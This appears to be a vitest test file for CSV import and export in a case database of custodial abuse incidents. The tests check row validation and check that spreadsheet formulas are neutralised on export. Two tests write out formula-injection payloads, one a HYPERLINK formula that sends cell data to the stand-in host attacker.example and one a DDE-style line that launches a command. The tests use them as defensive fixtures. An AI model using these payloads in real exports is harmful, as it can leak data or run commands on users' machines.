import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openCases, type Cases } from '../../src/cases/open-cases.js';
import { openDatabase, type OpenDatabase } from '../../src/db/database.js';
import { migrateToLatest } from '../../src/db/migrate.js';
import { buildServer } from '../../src/server/app.js';
import type { App } from '../../src/server/app-types.js';
import { ItemRepository } from '../../src/vault/item-repository.js';
import { signedInClient, type ApiClient } from '../helpers/api-client.js';
import { createTestDatabase, DATABASE_KINDS, postgresAvailable, type TestDatabase } from '../helpers/databases.js';
import { itemsOnlyVault } from '../helpers/vault-stub.js';

const pgUp = await postgresAvailable();
const CSV = { 'content-type': 'text/csv' };

for (const kind of DATABASE_KINDS) {
  describe.skipIf(kind === 'postgres' && !pgUp)(`CSV import and export on ${kind}`, () => {
    let testDb: TestDatabase;
    let database: OpenDatabase;
    let cases: Cases;
    let app: App;
    let client: ApiClient;

    beforeAll(async () => {
      testDb = await createTestDatabase(kind);
      database = openDatabase(testDb.target);
      await migrateToLatest(database.db);
      cases = openCases(database.db, itemsOnlyVault(new ItemRepository(database.db)), { organisation: 'Test', passwordCost: { logN: 10 } });
      await cases.actTypes.seed();
      app = await buildServer({ cases, organisation: 'Test', logLevel: 'silent' });
      ({ client } = await signedInClient(app, cases.accounts, 'investigator'));
    });
    afterAll(async () => {
      await app?.close();
      await database?.close();
      await testDb?.drop();
    });

    const incidents = [
      'title_ru,title_en,date_start,date_precision,documentation_status,description_ru',
      'Избиение в карцере,Beating in the punishment cell,2024-03-02,day,reported,"Заключённого избили, ""тихо"""',
      'Пытки током,,2024-13,month,reported,',
      ',,2023,year,documented,нет названия',
      'Угрозы,Threats,2022,year,unknown-status,',
    ].join('\n');

    it('reports every bad row with its line and field, and imports nothing', async () => {
      const result = (await client.request('POST', '/api/import/incidents', incidents, CSV)).json();
      expect(result.imported).toBe(0);
      expect(result.errors.map((e: { line: number; field: string }) => [e.line, e.field])).toEqual([
        [3, 'dateStart'],
        [4, 'titleRu'],
        [5, 'documentationStatus'],
      ]);
      expect((await client.request('GET', '/api/incidents')).json().total).toBe(0);
    });

    it('imports the good rows when asked to skip the bad ones, and exports them back', async () => {
      const result = (await client.request('POST', '/api/import/incidents?skipInvalid=true', incidents, CSV)).json();
      expect(result.imported).toBe(1);
      expect(result.errors).toHaveLength(3);
      const exported = await client.request('GET', '/api/export/incidents.csv');
      expect(exported.headers['content-type']).toMatch(/text\/csv/);
      expect(exported.headers['content-disposition']).toMatch(/attachment/);
      expect(exported.body).toContain('"Заключённого избили, ""тихо"""');
      expect((await client.request('GET', '/api/incidents?q=избили')).json().total).toBe(1);
    });

    it('imports people with names in several scripts, and refuses a file with an unknown column', async () => {
      const people =
        'kinds,names,birth_date\nvictim;witness,Пётр Вымышленный|official; Pyotr Vymyshlenny|transliteration,1980-02-30\nperpetrator,Аркадий Примеров,\n';
      const bad = (await client.request('POST', '/api/import/people', people, CSV)).json();
      expect(bad).toEqual({ imported: 0, errors: [{ line: 2, field: 'birthDate', message: expect.stringMatching(/does not exist/) }] });
      const good = (await client.request('POST', '/api/import/people', people.replace('1980-02-30', '1980-02-28'), CSV)).json();
      expect(good).toEqual({ imported: 2, errors: [] });
      expect((await client.request('GET', '/api/people?q=Vymyshlenny')).json().total).toBe(1);
      const exported = (await client.request('GET', '/api/export/people.csv')).body;
      expect(exported).toContain('Pyotr Vymyshlenny|transliteration');
      const unknown = (await client.request('POST', '/api/import/people', 'kinds,names,rank\nvictim,X,guard\n', CSV)).json();
      expect(unknown.errors[0]).toMatchObject({ line: 1, field: 'rank' });
    });

    it('exports no cell a spreadsheet would run as a formula, and imports the export back to the same text', async () => {
      const hostile = [
        '=HYPERLINK("http://attacker.example/?d="&C3,"open")',
        '-20°C in the punishment cell',
        '+7 detainees moved at night',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "'=already quoted by someone",
      ];
      for (const [i, title] of hostile.entries()) {
        const created = await client.request('POST', '/api/incidents', {
          titleRu: `Заголовок ${i}`,
          titleEn: title,
          descriptionRu: i === 0 ? '=1+2' : undefined,
          datePrecision: 'year',
          dateStart: '2024',
          documentationStatus: 'reported',
        });
        expect(created.statusCode).toBe(201);
      }

      const exported = (await client.request('GET', '/api/export/incidents.csv')).body;
      const cells = (parse(exported.replace(/^\uFEFF/, ''), { columns: true }) as Array<Record<string, string>>).flatMap((row) => Object.values(row));
      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
      expect(cells).toContain(`'${hostile[0]}`);
      expect(cells).toContain(`'${hostile[1]}`);
      expect(cells).toContain(`''=already quoted by someone`);

      const before = (await client.request('GET', '/api/incidents?limit=100')).json().total as number;
      expect((await client.request('POST', '/api/import/incidents', exported, CSV)).json().errors).toEqual([]);
      const titles = ((await client.request('GET', '/api/incidents?limit=100')).json().hits as Array<{ titleEn: string }>).map((i) => i.titleEn);
      expect((await client.request('GET', '/api/incidents?limit=100')).json().total).toBe(before * 2);
      for (const title of hostile) expect(titles.filter((t) => t === title)).toHaveLength(2);
    });

    it('neutralises formulas in the people export too, and imports them back unchanged', async () => {
      const people = 'kinds,names,notes_en\nwitness,"=HYPERLINK(""http://attacker.example"",""x"")|official","-5 kg in two weeks"\n';
      expect((await client.request('POST', '/api/import/people', people, CSV)).json()).toEqual({ imported: 1, errors: [] });
      const exported = (await client.request('GET', '/api/export/people.csv')).body;
      const row = (parse(exported.replace(/^\uFEFF/, ''), { columns: true }) as Array<Record<string, string>>).find((r) => r.names!.includes('HYPERLINK'))!;
      expect(row.names).toBe(`'=HYPERLINK("http://attacker.example","x")|official`);
      expect(row.notes_en).toBe("'-5 kg in two weeks");
      expect((await client.request('POST', '/api/import/people', exported, CSV)).json().errors).toEqual([]);
      const found = (await client.request('GET', '/api/people?q=HYPERLINK')).json();
      expect(found.total).toBe(2);
    });
  });
}
